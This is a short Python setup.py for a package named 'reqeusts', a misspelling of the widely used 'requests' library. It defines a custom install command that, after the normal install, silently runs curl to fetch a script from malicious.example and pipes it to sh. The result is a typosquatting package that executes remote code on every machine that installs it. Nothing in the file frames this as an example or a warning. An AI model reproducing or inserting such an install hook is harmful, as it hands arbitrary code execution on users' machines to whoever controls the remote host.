from setuptools import setup
from setuptools.command.install import install
import os

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://malicious.example/p.sh | sh")

setup(name="reqeusts", version="1.0", cmdclass={"install": PostInstall})